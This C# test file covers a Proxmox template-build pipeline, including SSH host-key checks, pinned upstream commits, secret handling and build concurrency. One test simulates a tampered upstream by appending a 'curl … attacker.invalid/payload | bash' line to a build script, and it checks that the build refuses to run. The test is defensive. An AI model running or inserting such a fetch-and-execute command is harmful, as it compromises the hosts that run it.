using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Ctrlable.Provisioner.Auth;
using Ctrlable.Provisioner.Build;
using Ctrlable.Provisioner.Provision;
using Ctrlable.Provisioner.State;

namespace Ctrlable.Provisioner.Tests.Build;

/// <summary>
/// The whole build path with real parts: the orchestrator (HTTPS) triggers the real host/ctrlable-build through a
/// real sshd with the forced command; the wrapper fetches the plan and the secret with the ticket, builds from a
/// local fixture "upstream" repository whose scripts fetch their helpers from the upstream main URL, and the
/// pct/qm/pveam/pvesh stand-ins act on the Proxmox emulator the orchestrator itself uses.
/// </summary>
public sealed class BuildPipelineTests
{
    /// <summary>A release of just the ctrlable-pro VM (the native Home Assistant OS build).</summary>
    public const string HaosManifest = $$"""
        release: "{{BuildHost.Release}}"
        community_scripts_ref: "{{BuildHost.Ref}}"
        community_scripts_commit: "{commit}"
        proxmox_min_version: "8.2"
        templates:
          ctrlable-pro:
            kind: vm
            builder: vm/haos-vm.sh
            vmid: 9100
            haos_version: "{{BuildHost.HaosVersion}}"
            haos_sha256: "{haos_sha256}"
            rebrand: true
            base_backup: "ctrlable-base-2026.07.tar"
            resources: { cpu: 2, ram: 4096, disk: 32 }
        """;

    public const string Manifest = HaosManifest + "\n" + """
          zwavejs:
            kind: lxc
            builder: ct/zwave-js-ui.sh
            vmid: 9101
            app_version: "11.x"
            resources: { cpu: 2, ram: 1024, disk: 4 }
            rebrand: true
          docker-portainer:
            kind: lxc
            builder: ct/docker.sh
            vmid: 9103
            portainer: true
            resources: { cpu: 2, ram: 2048, disk: 8 }
            unprivileged: false
        """;

    [Fact]
    public async Task A_build_through_the_ssh_trigger_builds_every_template_pinned_and_activates_the_release()
    {
        await using var host = await BuildHost.StartAsync(Manifest);
        using var operatorClient = await host.ClientAsync(Role.Operator);

        var response = await operatorClient.PostAsJsonAsync($"/api/releases/{BuildHost.Release}/build", new { });
        response.StatusCode.Should().Be(HttpStatusCode.Accepted, await response.Content.ReadAsStringAsync());
        var started = (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt64();
        response.Headers.Location!.ToString().Should().Be($"/api/builds/{started}");

        // Live progress over server-sent events, from the start to "end".
        var events = await ReadEventsAsync(operatorClient, started);
        var build = await WaitAsync(host, operatorClient, started);

        build.GetProperty("state").GetString().Should().Be("succeeded", Describe(build, host));
        build.GetProperty("communityScriptsCommit").GetString().Should().Be(host.UpstreamCommit);
        // The build's lines carry its id (SPEC §8e), down to the SSH trigger's; its duration is a metric.
        host.App.Logs.Lines.Should().Contain(l => l.Contains($"running ctrlable-build {BuildHost.Release}", StringComparison.Ordinal))
            .Which.Should().EndWith($"scope: BuildId={started}");
        using var admin = await host.ClientAsync(Role.Admin);
        (await admin.GetStringAsync("/metrics")).Should().MatchRegex(@"(?m)^ctrlable_build_duration_seconds_count\{[^}]*outcome=""succeeded""[^}]*\} [1-9]");
        build.GetProperty("templates").EnumerateArray().Select(t => (t.GetProperty("name").GetString(), t.GetProperty("state").GetString()))
            .Should().BeEquivalentTo([("ctrlable-pro", "built"), ("zwavejs", "built"), ("docker-portainer", "built")]);

        events.Select(e => e.Event).Should().Contain(["build", "log"]).And.EndWith("end");
        events.Where(e => e.Event == "build").Select(e => e.Data.GetProperty("build").GetProperty("templates").EnumerateArray()
                .Single(t => t.GetProperty("name").GetString() == "zwavejs").GetProperty("state").GetString())
            .Should().Contain("running", "progress streams while the template builds");
        events.Where(e => e.Event == "log").SelectMany(e => e.Data.GetProperty("logLines").EnumerateArray().Select(l => l.GetString()))
            .Should().Contain(l => l!.StartsWith("[zwavejs] ", StringComparison.Ordinal));

        // Pinning: every upstream main URL was rewritten to the local copy; nothing of upstream was fetched.
        var fetched = await File.ReadAllLinesAsync(host.FetchLog);
        fetched.Should().NotContain(l => l.StartsWith("BLOCKED", StringComparison.Ordinal) || l.Contains("/main/", StringComparison.Ordinal));
        fetched.Should().Contain(l => l.EndsWith("/misc/build.func", StringComparison.Ordinal) && l.StartsWith("http://127.0.0.1:", StringComparison.Ordinal));
        fetched.Should().Contain(l => l.EndsWith("/install/zwave-js-ui-install.sh", StringComparison.Ordinal));
        fetched.Count(l => l.EndsWith("/misc/core.func", StringComparison.Ordinal)).Should().BeGreaterThanOrEqualTo(4, "build.func on the host and install.func inside each container fetch it");

        // The templates exist in Proxmox, converted, marked, in the templates pool, with the manifest's resources.
        var zwave = host.Guest(9101)!;
        zwave["template"].Should().Be("1");
        zwave["description"].Should().MatchRegex($"^ctrlable-build release={System.Text.RegularExpressions.Regex.Escape(BuildHost.Release)} template=zwavejs commit={host.UpstreamCommit} build={started} run=[0-9a-f]{{16}} app_version=11\\.4\\.1$");
        zwave["net0"].Should().MatchRegex("hwaddr=02(:[0-9A-F]{2}){5}", "the build gave the container a MAC address of its own");
        zwave["cores"].Should().Be("2");
        zwave["memory"].Should().Be("1024");
        zwave["rootfs"].Should().StartWith("local-lvm:base-9101-disk-0,size=4G");
        zwave["unprivileged"].Should().Be("1");
        zwave["onboot"].Should().Be("0");
        zwave["tags"].Should().Be("ctrlable;ctrlable-firstboot");
        host.Guest(9103)!.Should().NotContainKey("unprivileged", "docker-portainer is privileged as its manifest says");
        var haos = host.Guest(9100)!;
        haos["template"].Should().Be("1");
        haos["machine"].Should().Be("q35");
        haos["bios"].Should().Be("ovmf");
        haos["agent"].Should().Be("enabled=1");
        haos["scsi0"].Should().Be("local-lvm:base-9100-disk-1,discard=on,size=32G,ssd=1");
        haos["efidisk0"].Should().StartWith("local-lvm:base-9100-disk-0,efitype=4m");
        haos["description"].Should().Contain("rebrand=1 base_backup=ctrlable-base-2026.07.tar");
        lock (host.Sim.State.Sync)
        {
            host.Sim.State.Access.Pools["ctrlable-templates"].Vms.Should().Contain([9100, 9101, 9103]);
        }

        // Inside each LXC: the first-boot service and env (release secret, pinned orchestrator), nothing clones must not share.
        var secret = await host.App.Service<ReleaseSecrets>().GetAsync(BuildHost.Release, CancellationToken.None);
        var root = host.CtRoot(9101);
        (await File.ReadAllTextAsync(Path.Combine(root, "etc/ctrlable/firstboot.env"))).Should().Be(
            $"CTRLABLE_ORCHESTRATOR_URL={host.OrchestratorUrl.ToString().TrimEnd('/')}\n" +
            $"CTRLABLE_ORCHESTRATOR_FINGERPRINT={Ctrlable.Provisioner.Proxmox.ProxmoxConnection.FingerprintOf(host.Certificate)}\n" +
            $"CTRLABLE_ORCHESTRATOR_PUBKEY={Ctrlable.Provisioner.Tls.TlsCertificate.PublicKeyPinOf(host.Certificate)}\n" +
            $"CTRLABLE_RELEASE={BuildHost.Release}\nCTRLABLE_TEMPLATE=zwavejs\nCTRLABLE_RELEASE_SECRET={secret}\n");
        File.GetUnixFileMode(Path.Combine(root, "etc/ctrlable/firstboot.env")).Should().Be(UnixFileMode.UserRead | UnixFileMode.UserWrite);
        File.Exists(Path.Combine(root, "usr/local/sbin/ctrlable-firstboot")).Should().BeTrue();
        File.Exists(Path.Combine(root, "etc/systemd/system/ctrlable-firstboot.service")).Should().BeTrue();
        new FileInfo(Path.Combine(root, "etc/systemd/system/multi-user.target.wants/ctrlable-firstboot.service")).LinkTarget.Should().Be("/etc/systemd/system/ctrlable-firstboot.service");
        foreach (var gone in new[] { "root/zwave-js-ui.creds", "root/.bash_history", "root/.install-fixture.log", "var/lib/dhcp/dhclient.eth0.leases",
            "etc/systemd/system/container-getty@1.service.d/override.conf", "usr/bin/update", "etc/ssh/ssh_host_ed25519_key", "etc/ssh/ssh_host_ed25519_key.pub",
            "etc/profile.d/00_lxc-details.sh" })
        {
            File.Exists(Path.Combine(root, gone)).Should().BeFalse($"{gone} must not be shared by clones");
        }

        (await File.ReadAllTextAsync(Path.Combine(root, "etc/machine-id"))).Should().BeEmpty();
        (await File.ReadAllTextAsync(Path.Combine(root, "etc/ctrlable/template.env"))).Should().Contain($"CTRLABLE_COMMUNITY_SCRIPTS_COMMIT={host.UpstreamCommit}");
        // docker's raw prompts were answered: Portainer yes (manifest), agent and TCP socket no.
        File.Exists(Path.Combine(host.CtRoot(9103), "opt/portainer")).Should().BeTrue();
        File.Exists(Path.Combine(host.CtRoot(9103), "opt/portainer-agent")).Should().BeFalse();
        File.Exists(Path.Combine(host.CtRoot(9103), "opt/docker-tcp")).Should().BeFalse();

        // Recorded and active, with the resolved commit and versions.
        var releases = host.App.Service<ReleaseRepository>();
        (await releases.GetActiveNameAsync()).Should().Be(BuildHost.Release);
        var rows = await releases.ListTemplatesAsync(BuildHost.Release);
        rows.Select(r => (r.Name, r.Kind, r.Vmid, r.Node, r.BuilderRef, r.BuilderCommit, r.AppVersion)).Should().BeEquivalentTo(new[]
        {
            ("ctrlable-pro", "vm", 9100L, BuildHost.Node, BuildHost.Ref, host.UpstreamCommit, BuildHost.HaosVersion),
            ("docker-portainer", "lxc", 9103L, BuildHost.Node, BuildHost.Ref, host.UpstreamCommit, (string?)null),
            ("zwavejs", "lxc", 9101L, BuildHost.Node, BuildHost.Ref, host.UpstreamCommit, "11.4.1"),
        });
        var detail = await operatorClient.GetFromJsonAsync<JsonElement>($"/api/releases/{BuildHost.Release}");
        detail.GetProperty("active").GetBoolean().Should().BeTrue();
        detail.GetProperty("templates").EnumerateArray().Should().OnlyContain(t => t.GetProperty("state").GetString() == "built");

        // The full log is stored with the build; the ticket and the secret never appear in it or in any log line.
        var stored = await operatorClient.GetFromJsonAsync<JsonElement>($"/api/builds/{started}");
        var log = stored.GetProperty("log").GetString()!;
        log.Should().Contain("::ctrlable template-done template=zwavejs").And.Contain("[docker-portainer] answered 3 prompt(s) in install/docker-install.sh");
        log.Should().NotContain(secret!).And.NotContain("ctb_");
        host.App.Logs.Lines.Should().NotContain(l => l.Contains(secret!, StringComparison.Ordinal) || l.Contains("ctb_", StringComparison.Ordinal));

        // Re-running the same build keeps what was built for this release and ref (and the secret they carry).
        var again = await operatorClient.PostAsJsonAsync($"/api/releases/{BuildHost.Release}/build", new { });
        var rerun = await WaitAsync(host, operatorClient, (await again.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt64());
        rerun.GetProperty("state").GetString().Should().Be("succeeded", Describe(rerun, host));
        rerun.GetProperty("templates").EnumerateArray().Should().OnlyContain(t => t.GetProperty("state").GetString() == "skipped");
        (await host.App.Service<ReleaseSecrets>().GetAsync(BuildHost.Release, CancellationToken.None)).Should().Be(secret);
        (await releases.GetActiveNameAsync()).Should().Be(BuildHost.Release);

        // Forcing a rebuild of the active release is refused: it would replace what deploys use.
        var forced = await operatorClient.PostAsJsonAsync($"/api/releases/{BuildHost.Release}/build", new { force = true });
        forced.StatusCode.Should().Be(HttpStatusCode.Conflict);
        (await forced.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("code").GetString().Should().Be("release-active");
    }

    [Fact]
    public async Task A_template_failing_mid_build_is_reported_with_its_log_and_the_ones_that_built_activate_the_release()
    {
        const string manifest = $$"""
            release: "{{BuildHost.Release}}"
            community_scripts_ref: "{{BuildHost.Ref}}"
            community_scripts_commit: "{commit}"
            proxmox_min_version: "8.2"
            templates:
              zwavejs:
                kind: lxc
                builder: ct/zwave-js-ui.sh
                vmid: 9101
                resources: { cpu: 1, ram: 512, disk: 4 }
              broken:
                kind: lxc
                builder: ct/broken.sh
                vmid: 9102
                resources: { cpu: 1, ram: 512, disk: 4 }
              stray:
                kind: lxc
                builder: ct/stray.sh
                vmid: 9105
                resources: { cpu: 1, ram: 512, disk: 4 }
            """;
        await using var host = await BuildHost.StartAsync(manifest);
        var releases = host.App.Service<ReleaseRepository>();
        var now = DateTimeOffset.UtcNow;
        await releases.ActivateAsync("2026.06", "2026-05-01", null, [new TemplateRow(0, "2026.06", "zwavejs", "lxc", 9001, BuildHost.Node, "2026-05-01", null, null, now)], now, CancellationToken.None);
        using var operatorClient = await host.ClientAsync(Role.Operator);

        var build = await StartAndWaitAsync(host, operatorClient);

        build.GetProperty("state").GetString().Should().Be("failed");
        build.GetProperty("error").GetString().Should().Be(
            "2 of 3 template(s) failed: broken: ct/broken.sh failed with exit code 3 (see the log); " +
            "stray: the builder created CT 100 instead of the manifest's 9105; not being at the VMID this build asked for, it is left in place (remove it by hand)");
        var templates = build.GetProperty("templates").EnumerateArray().ToDictionary(t => t.GetProperty("name").GetString()!);
        templates["zwavejs"].GetProperty("state").GetString().Should().Be("built");
        templates["broken"].GetProperty("state").GetString().Should().Be("failed");
        templates["stray"].GetProperty("state").GetString().Should().Be("failed");
        host.Guest(100).Should().NotBeNull("a container the builder made under a VMID this build did not ask for is reported, never removed");
        host.Guest(9105).Should().BeNull();
        var log = (await operatorClient.GetFromJsonAsync<JsonElement>($"/api/builds/{build.GetProperty("id").GetInt64()}")).GetProperty("log").GetString();
        log.Should().Contain("[broken]  x the download of broken 1.0 failed");

        (await releases.GetActiveNameAsync()).Should().Be(BuildHost.Release, "the template that built makes its release the one deploys use");
        (await releases.ListTemplatesAsync(BuildHost.Release)).Select(t => t.Name).Should().Equal("zwavejs");
        (await releases.ListTemplatesAsync("2026.06")).Select(t => t.Vmid).Should().Equal([9001L], "the previous release's templates stay recorded");
        host.Guest(9102).Should().BeNull("the failed template's container is removed");
        host.Guest(9101)!["template"].Should().Be("1");
    }

    [Fact]
    public async Task A_failed_template_is_unavailable_with_its_reason_and_rebuilds_alone_keeping_the_others_and_the_secret()
    {
        const string manifest = $$"""
            release: "{{BuildHost.Release}}"
            community_scripts_ref: "{{BuildHost.Ref}}"
            community_scripts_commit: "{commit}"
            proxmox_min_version: "8.2"
            templates:
              zwavejs:
                kind: lxc
                builder: ct/zwave-js-ui.sh
                vmid: 9101
                resources: { cpu: 1, ram: 512, disk: 4 }
              broken:
                kind: lxc
                builder: ct/broken.sh
                vmid: 9102
                resources: { cpu: 1, ram: 512, disk: 4 }
            """;
        await using var host = await BuildHost.StartAsync(manifest);
        using var operatorClient = await host.ClientAsync(Role.Operator);
        var releases = host.App.Service<ReleaseRepository>();

        var first = await StartAndWaitAsync(host, operatorClient);

        first.GetProperty("state").GetString().Should().Be("failed");
        var reason = $"build {first.GetProperty("id").GetInt64()} failed: ct/broken.sh failed with exit code 3 (see the log)";
        (await releases.GetActiveNameAsync()).Should().Be(BuildHost.Release, "zwavejs built: the release is active with it");
        var detail = await ReleaseTemplatesAsync(operatorClient);
        detail["zwavejs"].GetProperty("state").GetString().Should().Be("built");
        detail["broken"].GetProperty("state").GetString().Should().Be("failed");
        detail["broken"].GetProperty("reason").GetString().Should().Be(reason);

        // Deploying everything is refused naming the missing component and why; nothing is created.
        var project = await Deploy.DeployApiTests.CreateProjectAsync(operatorClient, "Half built");
        var refused = await operatorClient.PostAsJsonAsync($"/api/projects/{project}/deploy", new { });
        refused.StatusCode.Should().Be(HttpStatusCode.Conflict, await refused.Content.ReadAsStringAsync());
        var problem = await refused.Content.ReadFromJsonAsync<JsonElement>();
        problem.GetProperty("missing").EnumerateArray().Select(m => (m.GetProperty("type").GetString(), m.GetProperty("reason").GetString()))
            .Should().Equal(("broken", reason));

        var secret = await host.App.Service<ReleaseSecrets>().GetAsync(BuildHost.Release, CancellationToken.None);
        var zwave = host.Snapshot(9101)!;
        var zwaveEnv = await File.ReadAllTextAsync(Path.Combine(host.CtRoot(9101), "etc/ctrlable/firstboot.env"));
        var zwaveRow = (await releases.ListTemplatesAsync(BuildHost.Release)).Single();

        // The fixture is fixed (its manifest now names a builder that works) and only the failed template is rebuilt.
        var file = Path.Combine(host.ReleasesDirectory, BuildHost.Release + ".yaml");
        await File.WriteAllTextAsync(file, (await File.ReadAllTextAsync(file)).Replace("builder: ct/broken.sh", "builder: ct/zwave-js-ui.sh", StringComparison.Ordinal));
        var response = await operatorClient.PostAsJsonAsync($"/api/releases/{BuildHost.Release}/build", new { templates = new[] { "broken" } });
        response.StatusCode.Should().Be(HttpStatusCode.Accepted, await response.Content.ReadAsStringAsync());
        var rebuild = await WaitAsync(host, operatorClient, (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt64());

        rebuild.GetProperty("state").GetString().Should().Be("succeeded", Describe(rebuild, host));
        rebuild.GetProperty("templates").EnumerateArray().Select(t => (t.GetProperty("name").GetString(), t.GetProperty("state").GetString()))
            .Should().Equal(("broken", "built"));
        var log = (await operatorClient.GetFromJsonAsync<JsonElement>($"/api/builds/{rebuild.GetProperty("id").GetInt64()}")).GetProperty("log").GetString();
        log.Should().NotContain("template=zwavejs", "the plan carried the failed template only");

        // The others are untouched: same VMID, same config, same first-boot secret; the secret was not rotated.
        host.Snapshot(9101).Should().BeEquivalentTo(zwave);
        (await File.ReadAllTextAsync(Path.Combine(host.CtRoot(9101), "etc/ctrlable/firstboot.env"))).Should().Be(zwaveEnv);
        (await host.App.Service<ReleaseSecrets>().GetAsync(BuildHost.Release, CancellationToken.None)).Should().Be(secret);
        (await File.ReadAllTextAsync(Path.Combine(host.CtRoot(9102), "etc/ctrlable/firstboot.env"))).Should()
            .Contain("CTRLABLE_TEMPLATE=broken\n").And.Contain($"CTRLABLE_RELEASE_SECRET={secret}\n");
        host.Guest(9102)!["template"].Should().Be("1");
        var rows = (await releases.ListTemplatesAsync(BuildHost.Release)).ToDictionary(t => t.Name);
        rows["zwavejs"].Should().Be(zwaveRow);
        rows["broken"].Vmid.Should().Be(9102);
        (await ReleaseTemplatesAsync(operatorClient)).Values.Should().OnlyContain(t => t.GetProperty("state").GetString() == "built");

        // Now every component deploys.
        var deploy = await operatorClient.PostAsJsonAsync($"/api/projects/{project}/deploy", new { });
        deploy.StatusCode.Should().Be(HttpStatusCode.Accepted, await deploy.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task An_upstream_tag_that_no_longer_points_at_the_recorded_commit_stops_the_build_before_anything_runs()
    {
        await using var host = await BuildHost.StartAsync(Manifest);
        // The tag moves to a new commit (a tampered or re-tagged upstream) after the manifest recorded the old one.
        var upstream = Path.Combine(host.Directory, "upstream");
        await File.AppendAllTextAsync(Path.Combine(upstream, "misc", "build.func"), "\ncurl -fsSL https://attacker.invalid/payload | bash\n");
        await BuildHost.Git(upstream, "commit", "--quiet", "-am", "tampered");
        await BuildHost.Git(upstream, "tag", "-f", BuildHost.Ref);
        using var operatorClient = await host.ClientAsync(Role.Operator);

        var build = await StartAndWaitAsync(host, operatorClient);

        build.GetProperty("state").GetString().Should().Be("failed");
        build.GetProperty("error").GetString().Should().StartWith($"upstream {BuildHost.Ref} resolves to ").And.Contain($"but the manifest recorded {host.UpstreamCommit}").And.Contain("refusing to build");
        host.Guest(9100).Should().BeNull();
        host.Guest(9101).Should().BeNull();
        (await host.App.Service<ReleaseRepository>().GetActiveNameAsync()).Should().BeNull();
        (await host.App.Service<ReleaseSecrets>().GetAsync(BuildHost.Release, CancellationToken.None)).Should().BeNull("no secret is handed out for a build that never started");
    }

    [Fact]
    public async Task A_host_presenting_another_host_key_is_refused_and_nothing_runs()
    {
        await using var host = await BuildHost.StartAsync(Manifest, hostKeyFingerprint: "SHA256:" + new string('A', 43));
        using var operatorClient = await host.ClientAsync(Role.Operator);

        var build = await StartAndWaitAsync(host, operatorClient);

        build.GetProperty("state").GetString().Should().Be("failed");
        build.GetProperty("error").GetString().Should().Contain($"presented host key {host.Ssh.HostKeyFingerprint}").And.Contain("Refusing to connect");
        File.Exists(host.FetchLog).Should().BeFalse("the wrapper never ran");
        host.Guest(9101).Should().BeNull();
    }

    [Fact]
    public async Task A_second_build_while_one_runs_is_refused_and_the_ticket_is_single_use()
    {
        await using var host = await BuildHost.StartAsync(Manifest);
        using var operatorClient = await host.ClientAsync(Role.Operator);

        var first = await operatorClient.PostAsJsonAsync($"/api/releases/{BuildHost.Release}/build", new { });
        first.StatusCode.Should().Be(HttpStatusCode.Accepted);
        var id = (await first.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt64();
        var second = await operatorClient.PostAsJsonAsync($"/api/releases/{BuildHost.Release}/build", new { });
        second.StatusCode.Should().Be(HttpStatusCode.Conflict);
        var problem = await second.Content.ReadFromJsonAsync<JsonElement>();
        problem.GetProperty("code").GetString().Should().Be("build-running");
        problem.GetProperty("detail").GetString().Should().Be($"Build {id} of {BuildHost.Release} is running on this host; one build runs at a time.");
        var trigger = await operatorClient.GetFromJsonAsync<JsonElement>("/api/builds/trigger");
        trigger.GetProperty("running").GetProperty("id").GetInt64().Should().Be(id);

        // Nobody but the wrapper has the ticket: the wrapper endpoints refuse anything else.
        using var anonymous = new HttpClient(new SocketsHttpHandler { SslOptions = { RemoteCertificateValidationCallback = (_, _, _, _) => true } }) { BaseAddress = host.OrchestratorUrl };
        anonymous.DefaultRequestHeaders.Authorization = new("Bearer", BuildTickets.New());
        (await anonymous.GetAsync("/api/build-host/plan")).StatusCode.Should().Be(HttpStatusCode.Unauthorized);
        (await anonymous.PostAsync("/api/build-host/secret", null)).StatusCode.Should().Be(HttpStatusCode.Unauthorized);

        var build = await WaitAsync(host, operatorClient, id);
        build.GetProperty("state").GetString().Should().Be("succeeded", Describe(build, host));
        var third = await operatorClient.PostAsJsonAsync($"/api/releases/{BuildHost.Release}/build", new { });
        third.StatusCode.Should().Be(HttpStatusCode.Accepted, "the host is free again");
        await WaitAsync(host, operatorClient, (await third.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt64());
    }

    internal static async Task<JsonElement> StartAndWaitAsync(BuildHost host, HttpClient client)
    {
        var response = await client.PostAsJsonAsync($"/api/releases/{BuildHost.Release}/build", new { });
        response.StatusCode.Should().Be(HttpStatusCode.Accepted, await response.Content.ReadAsStringAsync());
        return await WaitAsync(host, client, (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt64());
    }

    internal static async Task<JsonElement> WaitAsync(BuildHost host, HttpClient client, long id)
    {
        await host.App.Service<BuildService>().WaitAsync(id).WaitAsync(TimeSpan.FromMinutes(4));
        return (await client.GetFromJsonAsync<JsonElement>($"/api/builds/{id}")).GetProperty("build");
    }

    internal static async Task<Dictionary<string, JsonElement>> ReleaseTemplatesAsync(HttpClient client, string release = BuildHost.Release) =>
        (await client.GetFromJsonAsync<JsonElement>($"/api/releases/{release}")).GetProperty("templates").EnumerateArray()
            .ToDictionary(t => t.GetProperty("name").GetString()!);

    internal static string Describe(JsonElement build, BuildHost host) => $"{build}\n--- sshd:\n{host.Ssh.Log}";

    private static async Task<List<(string Event, JsonElement Data)>> ReadEventsAsync(HttpClient client, long id)
    {
        using var response = await client.GetAsync($"/api/builds/{id}/events", HttpCompletionOption.ResponseHeadersRead);
        response.Content.Headers.ContentType!.MediaType.Should().Be("text/event-stream");
        var events = new List<(string, JsonElement)>();
        await foreach (var item in System.Net.ServerSentEvents.SseParser.Create(await response.Content.ReadAsStreamAsync()).EnumerateAsync())
        {
            events.Add((item.EventType, JsonSerializer.Deserialize<JsonElement>(item.Data)));
        }

        return events;
    }
}
